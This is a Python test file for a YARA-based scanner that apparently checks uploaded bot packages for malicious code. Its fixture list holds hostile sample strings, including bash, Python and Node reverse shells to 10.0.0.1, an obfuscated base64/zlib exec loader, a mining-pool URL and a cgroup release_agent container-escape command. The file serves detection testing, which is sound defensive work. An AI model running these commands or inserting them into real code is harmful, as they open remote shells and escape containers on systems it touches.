"""The scanner with real YARA and the package's own rules."""

import importlib
import sys
from pathlib import Path

import pytest
import structlog
from tests.parts.packages import MemoryPackage
from tests.parts.waiting import missing

from the0_actors.actors.errors import InvalidSetting
from the0_actors.actors.ports.scanner import Finding, Scanner
from the0_actors.adapters.yara.scanner import FILE_LIMIT, yara_scanner


@pytest.fixture
def scanner() -> Scanner:
    made = yara_scanner()
    if made is None:
        missing("yara-python is not installed")
    return made


def found(scanner: Scanner, **contents: str | bytes) -> list[tuple[str, str]]:
    package = MemoryPackage(
        {name: content if isinstance(content, bytes) else content.encode() for name, content in contents.items()}
    )
    return [(finding.rule, finding.path) for finding in scanner.scan(package)]


HARMFUL = [
    ("eicar_test_file", "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"),
    ("shell_over_network_device", "os.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')"),
    (
        "python_reverse_shell",
        "s.connect(('10.0.0.1',1)); os.dup2(s.fileno(),0); subprocess.call(['/bin/sh','-i'])",
    ),
    ("node_reverse_shell", "const c = new net.Socket(); const sh = cp.spawn('/bin/sh'); c.pipe(sh.stdin)"),
    ("python_hidden_code", "exec(__import__('zlib').decompress(__import__('base64').b64decode('…')))"),
    ("coin_miner", "pool = 'stratum+tcp://pool.example:3333'"),
    ("container_escape", "echo 1 > /sys/fs/cgroup/rdma/x/notify_on_release; cat release_agent"),
]


@pytest.mark.parametrize(("rule", "text"), HARMFUL)
def test_each_rule_finds_what_it_is_for(scanner: Scanner, rule: str, text: str) -> None:
    assert found(scanner, bot=f"import os\n{text}\n", other="x = 1") == [(rule, "bot")]


def test_the_libraries_of_bots_are_silent(scanner: Scanner) -> None:
    """What our own dependencies bring is what bots bring along: HTTP clients, cryptography, drivers."""
    names = ["requests", "urllib3", "Crypto", "nats", "pymongo", "docker", "minio", "click", "yaml", "the0"]
    contents = {}
    for name in names:
        module = importlib.import_module(name)
        assert module.__file__ is not None
        for path in Path(module.__file__).parent.rglob("*.py"):
            contents[str(path)] = path.read_bytes()
    assert len(contents) > 500
    assert list(scanner.scan(MemoryPackage(contents))) == []


def test_a_large_file_is_scanned_from_its_begin(scanner: Scanner) -> None:
    harm = b"stratum+tcp://x"
    assert found(scanner, big=harm + bytes(FILE_LIMIT)) == [("coin_miner", "big")]
    assert found(scanner, big=bytes(FILE_LIMIT) + harm) == []


def test_own_rules(tmp_path: Path) -> None:
    path = tmp_path / "own.yar"
    path.write_text('rule forbidden { strings: $a = "word" condition: $a }')
    scanner = yara_scanner(path)
    assert scanner is not None
    assert list(scanner.scan(MemoryPackage({"x": b"a word"}))) == [Finding("forbidden", "x")]


@pytest.mark.parametrize("text", ["rule {", "\udcff", None])
def test_rules_that_do_not_compile_are_an_invalid_setting(tmp_path: Path, text: str | None) -> None:
    path = tmp_path / "own.yar"
    if text is not None:
        path.write_bytes(text.encode("utf-8", "surrogateescape"))
    with pytest.raises(InvalidSetting, match="YARA"):
        yara_scanner(path)


def test_without_yara_nothing_is_scanned_and_it_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "yara", None)
    with structlog.testing.capture_logs() as logs:
        assert yara_scanner() is None
    assert [(entry["event"], entry["log_level"]) for entry in logs] == [("code_is_not_scanned", "info")]
